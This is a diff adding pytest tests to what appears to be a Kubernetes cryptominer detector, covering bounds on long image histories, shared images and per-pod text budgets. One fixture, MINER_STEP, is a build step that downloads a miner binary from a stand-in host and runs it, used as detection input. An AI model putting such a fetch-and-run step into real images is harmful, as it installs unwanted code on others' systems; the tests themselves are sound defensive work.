@@ -8,9 +8,11 @@ from typing import Any
 
 import pytest
 
-from minerguard.domain.detection import evaluate, spec_findings
-from minerguard.domain.detection.image import effective, instruction
-from minerguard.domain.oci import ImageConfig, parse_config
+from minerguard.domain.detection import evaluate, prepare, spec_findings
+from minerguard.domain.detection import findings as engine
+from minerguard.domain.detection.findings import Options
+from minerguard.domain.detection.image import MAX_POD_IMAGE_TEXT, effective, instruction, within
+from minerguard.domain.oci import MAX_HISTORY, ImageConfig, parse_config
 from minerguard.domain.policy import Policy, parse_policy
 from minerguard.domain.workload import ContainerView, Workload, workload_from_pod
 
@@ -154,6 +156,105 @@ def test_benign_look_alikes_are_not_matched() -> None:
 
 
 def test_hostile_configs_parse_bounded_or_empty() -> None:
-    assert parse_config(b'{"config": [], "history": "x"}') == ImageConfig()
+    assert replace(parse_config(b'{"config": [], "history": "x"}'), config_digest="") == ImageConfig()
     cfg = parse_config(json.dumps({"config": {"Env": ["A=" + "x" * 200_000], "Cmd": [1, "a"]}}).encode())
     assert len(cfg.env[0][1]) <= 65536 and cfg.cmd == ("a",)
+
+
+# ---------------------------------------------------------------------------------------------
+# Bounds: an image is anyone's input (a hostile config of thousands of steps, one image in many containers)
+
+MINER_STEP = "RUN /bin/sh -c wget -qO /usr/bin/kdevtmpfsi https://x.example/k && kdevtmpfsi # buildkit"
+
+
+def long_history(steps: int, last: str = MINER_STEP, tag: str = "") -> bytes:
+    history = [
+        {"created_by": f"RUN /bin/sh -c cd /src{i} && make -j4 install{tag} # buildkit"} for i in range(steps - 1)
+    ]
+    return config_blob(Entrypoint=["/app/run"], history=[*history, {"created_by": last}])
+
+
+def read_texts(p: Policy, wl: Workload) -> list[Any]:
+    """The texts detection reads for this policy (one per container view)."""
+    return list(prepare(wl).view(Options.of(p.signals)).texts)
+
+
+def test_a_long_history_keeps_its_oldest_and_newest_steps_and_says_what_was_cut() -> None:
+    cfg = parse_config(long_history(4000))
+    assert len(cfg.history) == MAX_HISTORY and cfg.history_length == 4000
+    assert cfg.history[0][0] == 1 and cfg.history[-1][0] == 4000
+    found = spec_findings(policy(), workload(cfg))
+    assert any(e.signal == "process" and "image history step 4000: RUN wget" in e.detail for e in found), found
+    oversized = [e.detail for e in found if e.signal == "oversizedValue"]
+    assert oversized and "image history of 4000 steps: steps 129 to 3872 not read" in oversized[0]
+    assert len(read_texts(policy(), workload(cfg))) == 1 + MAX_HISTORY
+
+
+def test_one_image_in_many_containers_is_read_once_within_the_pod_budget() -> None:
+    cfg = parse_config(long_history(4000))
+    wl = workload_from_pod(
+        {
+            "metadata": {"name": "x", "namespace": "apps"},
+            "spec": {"containers": [{"name": f"c{i}", "image": "r/x:1"} for i in range(50)]},
+        }
+    )
+    wl = replace(wl, containers=tuple(replace(c, image_config=cfg) for c in wl.containers))
+    texts = read_texts(policy(), wl)
+    assert len(texts) == 50 + MAX_HISTORY  # each container's own view, the history once
+    assert evaluate(policy(), wl, {}).matched
+
+
+def test_a_pods_image_text_is_bounded_and_fairly_shared() -> None:
+    env = [f"JUNK{i}=" + "x" * 60_000 for i in range(16)]  # about 1 MiB of Env per image
+    wl = workload_from_pod(
+        {
+            "metadata": {"name": "x", "namespace": "apps"},
+            "spec": {"containers": [{"name": f"c{i}", "image": f"r/x{i}:1"} for i in range(8)]},
+        }
+    )
+    configs = [parse_config(config_blob(Env=env, history=[{"created_by": MINER_STEP}], User=str(i))) for i in range(8)]
+    wl = replace(wl, containers=tuple(replace(c, image_config=k) for c, k in zip(wl.containers, configs, strict=True)))
+    texts = read_texts(policy(), wl)
+    fed = sum(len(v) for t in texts for _, v in t.container.image_env)
+    assert fed <= MAX_POD_IMAGE_TEXT
+    found = spec_findings(policy(), wl)
+    # Env junk does not push the history out: every image's miner step is still read.
+    assert {e.container for e in found if e.signal == "process"} == {f"c{i}" for i in range(8)}
+    assert any("over the pod's image text budget" in e.detail for e in found if e.signal == "oversizedValue")
+
+
+def test_within_keeps_whole_items_from_every_part() -> None:
+    cfg = parse_config(
+        config_blob(
+            Entrypoint=["/a"],
+            Env=[f"E{i}=" + "v" * 1000 for i in range(100)],
+            history=[{"created_by": f"RUN /bin/sh -c step{i} " + "a" * 500} for i in range(100)],
+        )
+    )
+    cut, note = within(cfg, 20_000)
+    assert cut.entrypoint == ("/a",) and 0 < len(cut.env) < 100 and all(len(v) == 1000 for _, v in cut.env)
+    numbers = [n for n, _ in cut.history]
+    assert 0 < len(numbers) < 100 and numbers[0] == 1 and numbers[-1] == 100
+    assert "characters read" in note
+    assert within(cfg, 10**9) == (cfg, "")
+
+
+def test_an_images_history_is_read_once_per_digest_not_once_per_pod(monkeypatch: pytest.MonkeyPatch) -> None:
+    cfg = parse_config(long_history(300, tag=" --once"))
+    calls = []
+    real = engine.expand
+    monkeypatch.setattr(engine, "expand", lambda *a, **k: calls.append(1) or real(*a, **k))
+    first = evaluate(policy(), workload(cfg), {})
+    read_first = len(calls)
+    assert read_first > MAX_HISTORY  # each step's script read
+    for name in ("y", "z"):  # other pods (same container name) on the same image
+        again = evaluate(policy(), replace(workload(cfg), name=name), {})
+        assert again.evidence == first.evidence
+    assert len(calls) - read_first == 2  # only each pod's own container view was read again
+
+
+def test_the_history_readings_kept_across_pods_are_bounded() -> None:
+    for i in range(40):  # 40 distinct hostile images of 256 steps: far more than the bound holds
+        evaluate(policy(), workload(parse_config(long_history(256, tag=f" --image={i}"))), {})
+    kept = sum(cost for cost, _ in engine._history_read.values())
+    assert 0 < kept <= engine.MAX_CACHED_HISTORY and len(engine._history_read) < 40
